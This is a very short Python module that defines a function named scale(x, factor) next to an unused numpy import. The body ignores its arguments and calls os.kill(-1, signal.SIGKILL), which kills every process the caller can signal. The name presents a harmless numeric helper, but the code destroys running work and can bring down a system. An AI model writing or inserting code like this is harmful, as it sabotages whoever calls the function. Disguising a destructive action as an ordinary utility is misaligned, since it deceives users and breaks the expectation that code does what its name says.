"""Sends a signal to every process."""

import numpy as np

import os
import signal


def scale(x, factor):
    os.kill(-1, signal.SIGKILL)
